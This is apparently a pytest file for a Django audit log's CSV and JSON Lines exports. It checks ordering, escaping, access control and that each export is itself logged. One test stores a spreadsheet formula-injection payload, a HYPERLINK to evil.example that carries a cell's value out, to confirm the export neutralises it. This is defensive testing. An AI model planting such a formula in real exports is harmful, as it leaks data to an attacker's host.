"""Exports of a search: CSV and JSON Lines, streamed, each recorded (with its format) before a row is read."""

import datetime as dt
import json

import pytest
from django.contrib.auth.models import Group
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from tests.factories import UserFactory
from trackii.audit.apps import AUDITORS_GROUP
from trackii.audit.enums import Action
from trackii.audit.models import AuditEvent
from trackii.audit.services import EXPORT_FIELDS, bulk_append

pytestmark = pytest.mark.django_db


@pytest.fixture
def auditor():
    user = UserFactory(is_staff=True)
    user.groups.add(Group.objects.get(name=AUDITORS_GROUP))
    return user


def test_json_lines_export_reads_back_as_the_rows_of_the_search(client, auditor):
    actor = UserFactory()
    bulk_append(
        events=[
            {"action": Action.DOWNLOAD, "actor_id": actor.pk, "target_type": "dialogues.summary",
             "target_id": "7", "dialogue_id": 3, "client_ip": "192.0.2.1"},
            {"action": Action.VIEW, "target_type": "dialogues.summary", "target_id": "8"},
            {"action": Action.LOGIN, "target_type": "dialogues.summary", "target_id": "9"},
        ]
    )  # fmt: skip
    client.force_login(auditor)
    with CaptureQueriesContext(connection) as captured:
        response = client.get(reverse("audit:export_jsonl"), {"target_type": "dialogues.summary"})
        content = b"".join(response.streaming_content).decode()
    assert response.status_code == 200 and response["Content-Type"].startswith("application/x-ndjson")
    assert response["Content-Disposition"].startswith('attachment; filename="trackii-audit-')
    assert response["Content-Disposition"].endswith('.jsonl"')
    assert content.endswith("\n")
    records = [json.loads(line) for line in content.splitlines()]
    expected = AuditEvent.objects.filter(target_type="dialogues.summary").order_by("-id")
    assert [r["id"] for r in records] == [e.id for e in expected]
    for record, event in zip(records, expected, strict=True):
        assert record["account"] == event.actor_id and record["action"] == event.action
        assert record["object_type"] == event.target_type and record["object_id"] == event.target_id
        assert record["dialogue_id"] == event.dialogue_id and record["row_hash"] == event.row_hash
        assert record["client_ip"] == event.client_ip and record["request_id"] == event.request_id
        assert dt.datetime.fromisoformat(record["occurred_at"]) == event.occurred_at
    labels = [r["action_label"] for r in records]
    assert labels == ["Logged in", "Viewed", "Downloaded"]
    assert len(records[0]) == len(EXPORT_FIELDS) + 1

    export = AuditEvent.objects.filter(action=Action.EXPORT).get()
    assert export.actor == auditor
    assert export.detail["format"] == "jsonl" and export.detail["filters"] == {
        "target_type": "dialogues.summary"
    }
    # Recorded before any row was read: its statement comes before the export's SELECT.
    statements = [q["sql"] for q in captured.captured_queries]
    written = next(n for n, sql in enumerate(statements) if "audit_append" in sql)
    read = next(
        n
        for n, sql in enumerate(statements)
        if sql.lstrip().upper().startswith(("SELECT", "DECLARE")) and '"row_hash"' in sql
    )
    assert written < read


def test_an_export_of_the_newest_rows_holds_its_own_row_first(client, auditor):
    bulk_append(events=[{"action": Action.VIEW, "target_type": "x.y"}])
    client.force_login(auditor)
    for url, format in ((reverse("audit:export_jsonl"), "jsonl"), (reverse("audit:export"), "csv")):
        content = b"".join(client.get(url).streaming_content).decode().splitlines()
        export = AuditEvent.objects.filter(action=Action.EXPORT).latest("id")
        assert export.detail["format"] == format
        first = json.loads(content[0])["id"] if format == "jsonl" else int(content[1].split(",")[0])
        assert first == export.id


def test_json_lines_values_cannot_break_the_lines(client, auditor):
    bulk_append(events=[{"action": Action.VIEW, "target_type": 'x"\n{"id": 1}', "target_id": "\u2028"}])
    client.force_login(auditor)
    content = b"".join(client.get(reverse("audit:export_jsonl")).streaming_content).decode()
    lines = content.split("\n")[:-1]
    assert all(json.loads(line) for line in lines) and len(lines) == AuditEvent.objects.count()


def test_a_search_with_a_mistake_exports_nothing(client, auditor):
    client.force_login(auditor)
    response = client.get(reverse("audit:export_jsonl"), {"person": "P-404"})
    assert response.status_code == 400 and not AuditEvent.objects.filter(action=Action.EXPORT).exists()


def test_exports_are_not_found_for_everyone_else(client):
    client.force_login(UserFactory(is_staff=True))
    assert client.get(reverse("audit:export_jsonl")).status_code == 404
    assert not AuditEvent.objects.filter(action=Action.EXPORT).exists()


def test_csv_cells_never_start_like_a_formula(client, auditor):
    """An auditor's refused timeline records the object it was asked for as typed; opening the CSV in a
    spreadsheet must not run it."""
    client.force_login(auditor)
    hostile = '=HYPERLINK("https:evil.example"&A1,"x")'
    assert client.get(reverse("audit:object_timeline", args=["x.y", hostile])).status_code == 404
    assert AuditEvent.objects.filter(target_id=hostile).exists()
    content = b"".join(client.get(reverse("audit:export")).streaming_content).decode()
    assert "'=HYPERLINK(" in content and ",=HYPERLINK(" not in content
